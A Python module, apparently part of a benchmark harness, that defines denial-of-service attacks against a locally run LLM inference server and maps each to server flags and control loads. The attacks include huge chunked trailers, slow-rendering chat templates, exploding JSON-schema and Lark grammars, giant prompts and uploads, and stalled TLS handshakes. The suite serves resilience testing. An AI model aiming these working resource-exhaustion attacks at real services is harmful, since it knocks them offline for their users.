"""The attacks: what each sends, and to a server with which flags."""

import asyncio
import contextlib
import json
from collections.abc import Mapping
from typing import NamedTuple

import aiohttp

from examples.benchmarks.attacks import bodies, connections, images, sockets
from examples.benchmarks.attacks.sending import Attack, Attacker, Json

TRAILER_BYTES = 200 << 20
SLOW_TEMPLATE = "{{ range(99999)|sum }}" * 2500
LARK = 'start: s\ns: s s s | s s | "a" | "b" |'
LARK_NESTED = 'start: (a+)+\na: (b | b b)*\nb: "x" | "y" | /[a-z]{0,40}/'
REST_SECONDS = 0.5  # after an attack, until streams count as undisturbed
LONG_IDS = 100_000  # tokens
WORDS = "The quick brown fox jumps over the lazy dog and counts to twelve. "
LONG_TEXT = WORDS * 60_000  # 4 MB


class Case(NamedTuple):
    """An attack; `control` is an ordinary load that costs the model as much, if there is one. It
    may need a model that reads images, and time to rest."""

    attack: Attack
    flags: tuple[str, ...] = ()
    control: Attack | None = None
    needs_images: bool = False
    rest_seconds: float = REST_SECONDS


def completion(attacker: Attacker, prompt: object, max_tokens: int, **fields: object) -> Json:
    return {"model": attacker.model, "prompt": prompt, "max_tokens": max_tokens, **fields}


def chat(attacker: Attacker, content: str, max_tokens: int = 16, **fields: object) -> Json:
    messages = [{"role": "user", "content": content}]
    return {"model": attacker.model, "messages": messages, "max_tokens": max_tokens, **fields}


async def trailers(attacker: Attacker) -> None:
    """200 MiB of trailers after chunked bodies, without a key."""
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n"
    head += b"content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
    piece = b"".join(b"x-%d: %s\r\n" % (number, b"y" * 1000) for number in range(256))
    left = TRAILER_BYTES
    while left > 0 and not attacker.is_over:
        reader, writer = await attacker.connect()
        writer.write(head)
        with contextlib.suppress(ConnectionError):
            while left > 0 and not reader.at_eof():
                writer.write(piece)
                left -= len(piece)
                await writer.drain()
                await asyncio.sleep(0)
        writer.close()
        attacker.outcomes["connections"] += 1
    attacker.outcomes["MiB"] += (TRAILER_BYTES - left) >> 20


async def chat_template(attacker: Attacker) -> None:
    """A template in the request that takes minutes to render."""

    async def one(number: int) -> None:
        body = chat(attacker, f"hi {number}", chat_template=SLOW_TEMPLATE)
        await attacker.post("/v1/chat/completions", body)

    await attacker.repeat(one, 4)


async def multiple_of(attacker: Attacker) -> None:
    """JSON schemas whose automaton has a million states, each another one."""

    async def one(number: int) -> None:
        schema = {"type": "integer", "multipleOf": 1022117 + 2 * number}
        format_ = {"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}
        await attacker.post("/v1/chat/completions", chat(attacker, "x", response_format=format_))

    await attacker.repeat(one, 4)


def _lark(grammar: str) -> Attack:
    async def attack(attacker: Attacker) -> None:
        async def one(number: int) -> None:
            text = grammar + " " * (number % 4)
            body = chat(attacker, f"x {number}", 200, structured_outputs={"grammar": text})
            await attacker.post("/v1/chat/completions", body | {"temperature": 1.0})

        await attacker.repeat(one, 4)

    return attack


async def equal_prompts(attacker: Attacker) -> None:
    """Pairs of equal requests, and each again as a retry."""

    async def one(number: int) -> None:
        body = chat(attacker, f"Count to {number // 2}.", 64, ignore_eos=True)
        again = {"x-stainless-retry-count": str(number % 2)}
        await attacker.post("/v1/chat/completions", body, again)

    await attacker.repeat(one, 8)


def _equal_load(clients: int, max_tokens: int) -> Attack:
    async def attack(attacker: Attacker) -> None:
        async def one(number: int) -> None:
            body = chat(attacker, f"Count to {number}.", max_tokens, ignore_eos=True)
            await attacker.post("/v1/chat/completions", body)

        await attacker.repeat(one, clients)

    return attack


async def long_prompts(attacker: Attacker) -> None:
    """Prompts of 100,000 tokens, as ids and as text; the model's context is shorter."""

    async def one(number: int) -> None:
        prompt: object = [300 + number % 1000] * LONG_IDS
        if number % 2:
            prompt = f"{number} " + WORDS * (LONG_IDS // 14)
        await attacker.post("/v1/completions", completion(attacker, prompt, 1))

    await attacker.repeat(one, 4)


async def cached_prefix(attacker: Attacker) -> None:
    """Waiting requests that share a cached prefix of 4,000 tokens."""
    prefix = [300 + number % 1000 for number in range(4000)]

    async def one(number: int) -> None:
        body = completion(attacker, [*prefix, 300 + number % 1000], 1)
        await attacker.post("/v1/completions", body)

    await one(0)
    await attacker.repeat(one, 128)


async def long_prompt(attacker: Attacker) -> None:
    """One prompt of 20,000 tokens after the other."""

    async def one(number: int) -> None:
        prompt = [300 + (7 * at + number) % 1000 for at in range(20_000)]
        await attacker.post("/v1/completions", completion(attacker, prompt, 1))

    await attacker.repeat(one, 1)


async def json_and_penalties(attacker: Attacker) -> None:
    """48 long outputs with JSON mode and penalties: all that depends on the whole output."""

    async def one(number: int) -> None:
        fields = {"frequency_penalty": 0.5, "presence_penalty": 0.5, "temperature": 1.0}
        format_ = {"type": "json_object"} if number % 2 else {"type": "text"}
        body = chat(attacker, f"List {number}.", 3000, ignore_eos=not number % 2, **fields)
        await attacker.post("/v1/chat/completions", body | {"response_format": format_})

    await attacker.repeat(one, 48)


async def choices(attacker: Attacker) -> None:
    """Eight choices of prompts of 4,000 tokens."""

    async def one(number: int) -> None:
        prompt = [300 + (7 * at + number) % 1000 for at in range(4000)]
        await attacker.post("/v1/completions", completion(attacker, prompt, 16, n=8))

    await attacker.repeat(one, 2)


async def eight_requests(attacker: Attacker) -> None:
    """Eight requests with one choice each, instead of one with eight: as many rows."""

    async def one(number: int) -> None:
        prompt = [300 + (7 * at + number) % 1000 for at in range(4000)]
        body = completion(attacker, prompt, 16)
        await asyncio.gather(*(attacker.post("/v1/completions", body) for _ in range(8)))

    await attacker.repeat(one, 2)


async def batch_lines(attacker: Attacker) -> None:
    """A batch of 100 prompts of 4,000 tokens; it is cancelled in the end."""
    prompts = [[300 + (7 * at + number) % 1000 for at in range(4000)] for number in range(100)]
    lines = "\n".join(
        json.dumps({"custom_id": str(number), "method": "POST", "url": "/v1/completions",
                    "body": completion(attacker, prompt, 32)})
        for number, prompt in enumerate(prompts)
    )  # fmt: skip
    form = aiohttp.FormData()
    form.add_field("purpose", "batch")
    form.add_field("file", lines.encode(), filename="lines.jsonl")
    async with attacker.session.post(f"{attacker.url}/v1/files", data=form) as response:
        uploaded = await response.json()
    body = {"input_file_id": uploaded["id"], "endpoint": "/v1/completions"}
    batch = await attacker.post("/v1/batches", body | {"completion_window": "24h"})
    await attacker.until_over()
    await attacker.post(f"/v1/batches/{batch['id']}/cancel", {})


async def store_flood(attacker: Attacker) -> None:
    """Files of 4 MiB and stored responses, as fast as they are accepted."""
    content = b"x" * (4 << 20)

    async def one(number: int) -> None:
        if number % 2:
            body = {"model": attacker.model, "input": WORDS * 20, "max_output_tokens": 16}
            await attacker.post("/v1/responses", body)
            return
        form = aiohttp.FormData()
        form.add_field("purpose", "batch")
        form.add_field("file", content, filename="x")
        async with attacker.session.post(f"{attacker.url}/v1/files", data=form) as response:
            attacker.outcomes[str(response.status)] += 1
            uploaded = await response.json()
        if "id" in uploaded:  # so that the disk is not filled
            async with attacker.session.delete(f"{attacker.url}/v1/files/{uploaded['id']}"):
                pass

    await attacker.repeat(one, 4)


async def tokenize_flood(attacker: Attacker) -> None:
    """Texts of 4 MB to /tokenize."""

    async def one(number: int) -> None:
        body = {"model": attacker.model, "prompt": f"{number} {LONG_TEXT}"}
        await attacker.post("/tokenize", body)

    await attacker.repeat(one, 4)


async def rejected(attacker: Attacker) -> None:
    """Requests that are rejected with a 400."""

    async def one(number: int) -> None:
        await attacker.post("/v1/chat/completions", chat(attacker, f"x {number}", -1))

    await attacker.repeat(one, 16)


async def handshakes(attacker: Attacker) -> None:
    """1,000 TCP connections to a TLS port which stall after half of a ClientHello."""
    hello = bytes.fromhex("160301020001000100")
    open_: list[asyncio.StreamWriter] = []
    while not attacker.is_over:
        if len(open_) >= 1000:
            open_.pop(0).close()
        with contextlib.suppress(ConnectionError):
            _, writer = await attacker.connect()
            writer.write(hello)
            open_.append(writer)
            attacker.outcomes["connections"] += 1
        await asyncio.sleep(0.002)
    for writer in open_:
        writer.close()


UNBOUNDED = ("--prefill-slowdown", "0")
TRUSTED = ("--trust-request-chat-template",)
TLS = ("--tls-cert", "{tls}/cert.pem", "--tls-key", "{tls}/key.pem")
FEW_CONNECTIONS = ("--max-connections", "60")
CASES: Mapping[str, Case] = {
    "200 MiB of trailers": Case(trailers),
    "rejected requests": Case(rejected),
    "chat_template": Case(chat_template),
    "chat_template, trusted": Case(chat_template, TRUSTED),
    "multipleOf schemas": Case(multiple_of),
    "ambiguous Lark grammar": Case(_lark(LARK)),
    "nested Lark grammar": Case(_lark(LARK_NESTED)),
    "equal prompts, retried": Case(equal_prompts, control=_equal_load(8, 64)),
    "prompts of 100,000 tokens": Case(long_prompts),
    "prompts of 20,000 tokens": Case(long_prompt),
    "the same, --prefill-slowdown 0": Case(long_prompt, UNBOUNDED),
    "cached prefix of 4,000 tokens": Case(cached_prefix),
    "JSON mode and penalties": Case(json_and_penalties, control=_equal_load(48, 3000)),
    "n = 8": Case(choices, control=eight_requests),
    "batch of 4,000-token prompts": Case(batch_lines),
    "files and responses": Case(store_flood),
    "/tokenize with 4 MB": Case(tokenize_flood),
    "stalled TLS handshakes": Case(handshakes, TLS),
    "whole TLS handshakes": Case(connections.whole_handshakes, TLS),
    "TLS ClientHellos": Case(connections.client_hellos, TLS),
    "connect and close": Case(connections.connect_and_close),
    "idle sockets, --max-connections 60": Case(connections.idle_sockets, FEW_CONNECTIONS),
    "pipelined POSTs": Case(connections.PIPELINED_POSTS),
    "pipelined GETs": Case(connections.PIPELINED_GETS),
    "9,000 headers, pipelined": Case(connections.MANY_HEADERS),
    "endless chunk extension": Case(connections.EXTENSIONS),
    "chunks of one byte": Case(connections.SMALL_CHUNKS),
    **{name: Case(attack) for name, attack in bodies.ATTACKS.items()},
    **{name: Case(attack) for name, attack in sockets.ATTACKS.items()},
    **{
        n: Case(attack, images.FLAGS, None, True, images.REST_SECONDS.get(n, REST_SECONDS))
        for n, attack in images.ATTACKS.items()
    },
}
